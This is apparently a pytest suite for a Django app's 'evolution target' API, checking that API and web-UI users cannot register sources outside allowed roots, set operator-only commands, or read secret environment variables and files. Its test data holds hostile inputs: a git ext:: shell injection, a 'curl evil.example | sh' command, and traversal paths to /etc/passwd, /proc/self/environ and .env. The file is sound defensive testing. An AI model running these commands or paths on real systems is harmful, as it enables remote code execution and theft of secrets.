"""Targets are confined (issue 22): what a project's API key (or a logged-in user of the web UI) may register, as
opposed to the operator at the shell. A source is a remote git URL or a directory under CLEAR_EVOLUTION_SOURCE_ROOTS,
never Clear's own files nor another project's repository; a malformed one is a 400, never a 500; git's failures are
told without its command or the server's paths; the commands, sandbox levels, hot_swap and scripted_fixtures are the
operator's (a new target's commands are its repository's own); a job's backend config reads only allowed key
variables and listed script files. `manage.py evolution_target` is not confined."""

from __future__ import annotations

import json
from io import StringIO
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.management import CommandError, call_command

from evolution.backends import backend_get
from evolution.errors import BackendError
from evolution.models import EvolutionJob, EvolutionTarget
from evolution.services import evolution_target_add
from tests.evolution.fixture_repo import CONFIG, fixture_repo_make
from tests.evolution.support import target_register
from tests.frontend.conftest import client_for

pytestmark = pytest.mark.django_db

TARGETS = "/api/v1/evolution/targets/"
JOBS = "/api/v1/evolution/jobs/"
HOT_SWAP = {"activator": {"kind": "process", "command": "python -c 'import time; time.sleep(600)'"},
            "probes": [{"kind": "process_alive"}]}
REMOTE = "https://git.example.com/agent.git"


def _create(api, source, *, name="agent", **extra):
    return api.post(TARGETS, {"name": name, "source": str(source), **extra}, format="json")


def _register(api, source, *, name="agent", **extra) -> tuple:
    """The registration's response and the target once the clone it sent has run (eager Celery)."""
    return target_register(api, {"name": name, "source": str(source), **extra})


def _failed(target: dict, *words: str) -> str:
    """A registration the repository refused: the target failed, the reason in Clear's words."""
    assert target["state"] == "failed", target
    for word in words:
        assert word in target["state_reason"], target["state_reason"]
    return target["state_reason"]


def _refused(response, field: str, *words: str) -> dict:
    assert response.status_code == 400, (response.status_code, response.content[:500])
    body = response.json()
    assert field in body["extra"]["fields"], body
    for word in words:
        assert word in body["message"], body["message"]
    return body


def _call(*args) -> str:
    out = StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


# --- sources --------------------------------------------------------------------------------------------------------

def test_a_local_path_needs_a_source_root(api, settings, router_remote, tmp_path):
    settings.CLEAR_EVOLUTION_SOURCE_ROOTS = []
    body = _refused(_create(api, router_remote), "source", "CLEAR_EVOLUTION_SOURCE_ROOTS", "evolution_target add")
    assert str(router_remote) not in body["message"]

    elsewhere = tmp_path / "agents"
    elsewhere.mkdir()
    settings.CLEAR_EVOLUTION_SOURCE_ROOTS = [str(elsewhere)]
    _refused(_create(api, router_remote), "source", "not under a directory", "CLEAR_EVOLUTION_SOURCE_ROOTS")
    # A symlink under the root does not lead out of it: the path is resolved first.
    (elsewhere / "link").symlink_to(router_remote)
    _refused(_create(api, elsewhere / "link"), "source", "not under a directory")
    assert not EvolutionTarget.objects.exists()

    settings.CLEAR_EVOLUTION_SOURCE_ROOTS = [str(tmp_path)]
    created, target = _register(api, router_remote)
    assert created.status_code == 201, created.content
    assert created.json()["source"] == str(router_remote.resolve())
    assert target["state"] == "ready" and target["config"]["trial_command"] == CONFIG["trial_command"]


@pytest.mark.parametrize("source, words", [
    ("repo/remote.git", ["relative path is not accepted"]),
    ("./repo", ["relative path is not accepted"]),
    ("~/agent", ["relative path is not accepted"]),
    ("file:///srv/agent.git", ["(file:) is not accepted", "https://"]),
    ("git://git.example.com/agent.git", ["(git:) is not accepted"]),
    ("http://git.example.com/agent.git", ["plain http:// is refused", "CLEAR_GIT_ALLOW_HTTP"]),
    ("ext::sh -c touch% /tmp/pwned", ["(ext:) is not accepted"]),
    ("https:///agent.git", ["names no host"]),
])
def test_relative_paths_and_other_url_schemes_are_refused(api, roots, source, words):
    _refused(_create(api, source, config=CONFIG), "source", *words)


@pytest.mark.parametrize("source", [REMOTE, "ssh://git@git.example.com/agent.git",
                                    "git@git.example.com:team/agent.git"])
def test_remote_git_urls_are_accepted(api, settings, monkeypatch, source):
    settings.CLEAR_EVOLUTION_SOURCE_ROOTS = []
    fetched = []
    # The repository's evolution.json is read even with a config (its commands are the ones taken): here the remote
    # is stood in for, so nothing leaves the machine.
    monkeypatch.setattr("evolution.services.targets.repo_config_read",
                        lambda *, source, ref: fetched.append(source) or dict(CONFIG))
    created, target = _register(api, source, config={**CONFIG, "trials": 1})
    assert created.status_code == 201, created.content
    assert created.json()["source"] == source and fetched == [source]
    assert target["state"] == "ready" and target["config"]["trials"] == 1


def test_clears_own_directories_are_refused_under_a_root(api, settings, roots, evolution_dir):
    mirror = evolution_dir / "repos" / "1.git"
    mirror.mkdir(parents=True)
    _refused(_create(api, mirror), "source", "Clear's own files")
    (roots / "innocent").symlink_to(mirror)
    _refused(_create(api, roots / "innocent"), "source", "Clear's own files")
    _refused(_create(api, evolution_dir / "releases"), "source", "Clear's own files")

    base = Path(django_settings.BASE_DIR)
    settings.CLEAR_EVOLUTION_SOURCE_ROOTS = [str(base.parent)]
    for path in (base, base / "evolution", base.parent, Path(django_settings.VAR_DIR)):
        body = _refused(_create(api, path), "source", "Clear's own files")
        assert str(base) not in body["message"]
    assert not EvolutionTarget.objects.exists()


def test_another_projects_repository_is_refused(api, roots, outsider_project, project, router_remote):
    evolution_target_add(operator=True, project=outsider_project, name="theirs", source=str(router_remote))
    for path in (router_remote, router_remote / "refs", router_remote.parent):  # it, inside it, holding it
        _refused(_create(api, path, config=CONFIG), "source", "another project's target")
    assert not EvolutionTarget.objects.filter(project=project).exists()


def test_oversized_and_malformed_sources_are_a_400_on_create_and_patch(api, roots, project, owner, router_remote):
    long_component = str(roots / ("b" * 300) / "repo")
    bad = {"a 5000-character source": "/" + "a" * 4999, "a 300-character component": long_component,
           "a control character": f"{roots}/re\x01po", "a NUL byte": f"{roots}/re\x00po",
           "many components": "/" + "/".join(["c" * 255] * 20)}
    target = evolution_target_add(operator=True, project=project, name="router", source=str(router_remote))
    web = client_for(owner)
    for what, source in bad.items():
        for response in (_create(api, source, config=CONFIG),
                         api.patch(f"{TARGETS}{target.pk}/", {"source": source}, format="json"),
                         api.patch(f"{TARGETS}{target.pk}/", {"push_url": source}, format="json")):
            assert response.status_code == 400, (what, response.status_code, response.content[:300])
        # The web forms have no serializer in front: the service itself says it.
        page = web.post(f"/p/{project.slug}/evolution/targets/", {"name": "x", "source": source,
                                                                  "config": json.dumps(CONFIG)})
        assert page.status_code == 400, what
        edit = web.post(f"/p/{project.slug}/evolution/targets/{target.pk}/", {"source": source,
                                                                              "config": json.dumps(CONFIG)})
        assert edit.status_code == 400, what
    target.refresh_from_db()
    assert target.source == str(router_remote.resolve())
    page = web.post(f"/p/{project.slug}/evolution/targets/", {"name": "x", "source": long_component,
                                                              "config": json.dumps(CONFIG)})
    assert "path component longer than 255 bytes" in page.content.decode()
    # The operator's command gets a message too, not a traceback.
    with pytest.raises(CommandError, match="longer than 255 bytes"):
        _call("evolution_target", "add", "--project", project.name, "--name", "y", "--source", long_component)


def test_a_patched_source_and_push_url_are_confined_like_a_new_one(api, settings, project, router_remote, roots):
    target = evolution_target_add(operator=True, project=project, name="router", source=str(router_remote))
    url = f"{TARGETS}{target.pk}/"
    assert api.patch(url, {"source": str(router_remote), "config": {**CONFIG, "trials": 1}},
                     format="json").status_code == 200  # unchanged: not checked again
    _refused(api.patch(url, {"source": "../elsewhere"}, format="json"), "source", "relative path")
    _refused(api.patch(url, {"source": str(django_settings.BASE_DIR)}, format="json"), "source", "not under")
    _refused(api.patch(url, {"push_url": "/tmp/other.git"}, format="json"), "push_url", "not under")
    _refused(api.patch(url, {"push_url": "file:///tmp/other.git"}, format="json"), "push_url", "(file:)")
    assert api.patch(url, {"source": REMOTE, "push_url": "git@git.example.com:team/agent.git"},
                     format="json").status_code == 200
    target.refresh_from_db()
    assert (target.source, target.push_url) == (REMOTE, "git@git.example.com:team/agent.git")


# --- what git says ----------------------------------------------------------------------------------------------------

def test_git_failures_are_told_without_the_command_or_the_servers_paths(api, roots, router_remote):
    empty = roots / "not-a-repo"
    empty.mkdir()
    _, missing = _register(api, empty, name="empty")
    _, branch = _register(api, router_remote, name="branch", default_branch="no-such-branch")
    for target in (missing, branch):
        text = json.dumps(target)
        for leak in ("clear-evo-config", "/tmp/", "git clone", "git rev-parse", "mirror.git", "fatal"):
            assert leak not in text.replace(json.dumps(target["source"]), ""), (leak, text)
        assert str(roots) not in target["state_reason"]
    assert _failed(missing) == ("source: could not read the repository's evolution.json (git could not fetch it: "
                                "repository not found)")
    _failed(branch, "default_branch", "does not exist")


# --- the operator's config sections -------------------------------------------------------------------------------

@pytest.mark.parametrize("field, value", [("hot_swap", HOT_SWAP), ("scripted_fixtures", ["/etc/passwd"])])
def test_operator_sections_are_refused_through_the_api_and_the_form(api, roots, project, owner, router_remote, field,
                                                                    value):
    body = _refused(_create(api, router_remote, config={**CONFIG, field: value}), f"config.{field}",
                    "only the operator can set this", "manage.py evolution_target")
    assert body["extra"]["fields"] == {f"config.{field}": body["message"].split(": ", 1)[1]}
    page = client_for(owner).post(f"/p/{project.slug}/evolution/targets/", {
        "name": "x", "source": str(router_remote), "config": json.dumps({**CONFIG, field: value})})
    assert page.status_code == 400 and f"config.{field}" in page.content.decode()
    assert not EvolutionTarget.objects.exists()


def test_a_repository_whose_evolution_json_sets_hot_swap_is_the_operators(api, roots, project):
    remote = fixture_repo_make(roots / "hot", config_overrides={"hot_swap": HOT_SWAP})
    _failed(_register(api, remote)[1], "config.hot_swap", "evolution.json sets it", "only the operator")
    # Given a config without it, anyone may register the repository; the operator may take its evolution.json.
    created, target = _register(api, remote, name="given", config=CONFIG)
    assert created.status_code == 201 and target["state"] == "ready" and "hot_swap" not in target["config"]
    target = evolution_target_add(operator=True, project=project, name="hot", source=str(remote))
    assert target.config["hot_swap"]["activator"]["kind"] == "process"


def test_a_patch_keeps_the_operators_hot_swap_and_cannot_change_it(api, project, router_remote, roots, tmp_path):
    target = evolution_target_add(operator=True, project=project, name="hot", source=str(router_remote),
                                  config={**CONFIG, "hot_swap": HOT_SWAP, "scripted_fixtures": ["a.json"]})
    stored = dict(target.config)
    url = f"{TARGETS}{target.pk}/"
    # Left out (or null): kept as the operator set it.
    kept = api.patch(url, {"config": {**CONFIG, "trials": 1, "hot_swap": None}}, format="json")
    assert kept.status_code == 200, kept.content
    assert (kept.json()["config"]["hot_swap"], kept.json()["config"]["scripted_fixtures"]) == (
        stored["hot_swap"], ["a.json"])
    assert kept.json()["config"]["trials"] == 1
    # Sent back as it is (what the edit form does, or the section without its defaults): fine.
    assert api.patch(url, {"config": {**CONFIG, "hot_swap": HOT_SWAP}}, format="json").status_code == 200
    assert api.patch(url, {"config": kept.json()["config"]}, format="json").status_code == 200
    # Changed: refused, nothing saved.
    changed = {**HOT_SWAP, "activator": {"kind": "process", "command": "sh -c 'curl evil.example | sh'"}}
    _refused(api.patch(url, {"config": {**CONFIG, "hot_swap": changed}}, format="json"), "config.hot_swap",
             "only the operator")
    _refused(api.patch(url, {"config": {**CONFIG, "scripted_fixtures": ["/etc/passwd"]}}, format="json"),
             "config.scripted_fixtures")
    # Its source is where the operator put it: its releases run on the host.
    elsewhere = fixture_repo_make(tmp_path / "elsewhere")
    _refused(api.patch(url, {"source": str(elsewhere)}, format="json"), "source", "only the operator")
    target.refresh_from_db()
    assert target.config["hot_swap"] == stored["hot_swap"] and target.source == str(router_remote.resolve())

    # A target without one cannot get one through the API; the operator's command sets, changes or removes it.
    plain = evolution_target_add(operator=True, project=project, name="plain", source=str(router_remote))
    _refused(api.patch(f"{TARGETS}{plain.pk}/", {"config": {**CONFIG, "hot_swap": HOT_SWAP}}, format="json"),
             "config.hot_swap")
    config_file = tmp_path / "plain.json"
    config_file.write_text(json.dumps(CONFIG))
    out = _call("evolution_target", "update", "--project", project.name, "--name", "hot", "--config",
                str(config_file), "--source", str(elsewhere))
    assert "Target hot" in out
    target.refresh_from_db()
    assert "hot_swap" not in target.config and target.source == str(elsewhere.resolve())


def test_the_edit_form_keeps_the_operators_sections(project, owner, router_remote):
    target = evolution_target_add(operator=True, project=project, name="hot", source=str(router_remote),
                                  config={**CONFIG, "hot_swap": HOT_SWAP})
    web = client_for(owner)
    url = f"/p/{project.slug}/evolution/targets/{target.pk}/"
    # The page shows the whole config and sends it back; the operator's source (outside any root) is unchanged.
    saved = web.post(url, {"source": target.source, "config": json.dumps({**target.config, "trials": 1})})
    assert saved.status_code == 302
    changed = {**target.config, "hot_swap": {**HOT_SWAP, "probes": []}}
    refused = web.post(url, {"source": target.source, "config": json.dumps(changed)})
    assert refused.status_code == 400 and "only the operator can set this" in refused.content.decode()
    target.refresh_from_db()
    assert target.config["trials"] == 1 and target.config["hot_swap"]["probes"] == [{"kind": "process_alive"}]


# --- job backend configs --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("backend, config", [
    ("litellm", {"model": "openai/gpt-4o-mini", "api_key_env": "SECRET_KEY"}),
    ("external", {"template": "claude", "api_key_env": "SECRET_KEY"}),
    ("external", {"template": "custom", "command": "true {prompt_file}", "api_key_env": "DATABASE_URL"}),
])
def test_api_key_env_must_be_an_allowed_variable(api, monkeypatch, project, owner, router_target, refund_insight,
                                                 backend, config):
    monkeypatch.setenv("SECRET_KEY", "django-secret-must-not-leak")
    monkeypatch.setenv("DATABASE_URL", "postgres://secret@db/clear")
    body = _refused(api.post(JOBS, {"target": router_target.pk, "insight": refund_insight.pk, "backend": backend,
                                    "backend_config": config}, format="json"),
                    "backend_config.api_key_env", "CLEAR_EVOLUTION_BACKEND_ENV_ALLOW")
    assert "django-secret" not in json.dumps(body) and "postgres://" not in json.dumps(body)
    web = client_for(owner)
    form = {"insight": refund_insight.pk, "target": router_target.pk, "backend": backend, "depth": "shallow",
            "mode": "pr", "backend_config": json.dumps(config)}
    page = web.post(f"/p/{project.slug}/evolution/new/", form)
    assert page.status_code == 400 and "CLEAR_EVOLUTION_BACKEND_ENV_ALLOW" in page.content.decode()
    check = web.post(f"/p/{project.slug}/evolution/new/", {**form, "preflight": "1"})
    assert "CLEAR_EVOLUTION_BACKEND_ENV_ALLOW" in check.content.decode()
    assert not EvolutionJob.objects.exists()
    # The backends refuse it themselves when they are built for a run: a job saved before the check existed.
    with pytest.raises(BackendError, match="CLEAR_EVOLUTION_BACKEND_ENV_ALLOW"):
        backend_get(name=backend, config=config)


def test_the_default_key_variables_are_allowed(settings):
    assert {"ANTHROPIC_API_KEY", "OPENAI_API_KEY"} <= set(settings.CLEAR_EVOLUTION_BACKEND_ENV_ALLOW)
    assert backend_get(name="external", config={"template": "claude"}).api_key_env == "ANTHROPIC_API_KEY"
    assert backend_get(name="litellm", config={"model": "openai/m", "api_key_env": "OPENAI_API_KEY"}).api_key_env \
        == "OPENAI_API_KEY"
    settings.CLEAR_EVOLUTION_BACKEND_ENV_ALLOW = ["OPENAI_API_KEY"]  # the operator can narrow the list
    with pytest.raises(BackendError, match="ANTHROPIC_API_KEY"):
        backend_get(name="external", config={"template": "claude"})


def test_a_script_path_must_be_one_of_the_targets_fixtures(api, project, owner, router_target, refund_insight,
                                                           tmp_path):
    from tests.evolution.fixture_repo import FIXED_BRANCH, replace_edit
    from tests.evolution.support import happy_entries, script_write

    def start(script_path):
        return api.post(JOBS, {"target": router_target.pk, "insight": refund_insight.pk, "backend": "scripted",
                               "backend_config": {"script_path": script_path}}, format="json")

    for path in ("/etc/passwd", "../../../../etc/passwd", "/proc/self/environ", str(django_settings.BASE_DIR / ".env")):
        body = _refused(start(path), "backend_config.script_path", "scripted_fixtures")
        assert path not in body["message"] and "root:" not in json.dumps(body)
    web = client_for(owner)
    page = web.post(f"/p/{project.slug}/evolution/new/", {
        "insight": refund_insight.pk, "target": router_target.pk, "backend": "scripted", "depth": "shallow",
        "mode": "pr", "script": "/etc/passwd"})
    assert page.status_code == 400 and "root:" not in page.content.decode()
    assert not EvolutionJob.objects.exists()

    # One the operator listed is read, named as listed (relative to Clear's root) or absolute.
    script = script_write(tmp_path / "fix.json", happy_entries(replace_edit(FIXED_BRANCH)))
    EvolutionTarget.objects.filter(pk=router_target.pk).update(
        config={**router_target.config, "scripted_fixtures": [str(script)]})
    started = start(str(script))
    assert started.status_code == 201, started.content


def test_the_operator_command_registers_a_plain_local_path(settings, project, router_remote, tmp_path, monkeypatch):
    settings.CLEAR_EVOLUTION_SOURCE_ROOTS = []
    out = _call("evolution_target", "add", "--project", project.name, "--name", "router", "--source",
                str(router_remote))
    assert "Target router" in out
    assert EvolutionTarget.objects.get(name="router").source == str(router_remote.resolve())
    # Relative to the operator's working directory, as before.
    monkeypatch.chdir(router_remote.parent)
    _call("evolution_target", "add", "--project", project.name, "--name", "relative", "--source", router_remote.name)
    assert EvolutionTarget.objects.get(name="relative").source == str(router_remote.resolve())
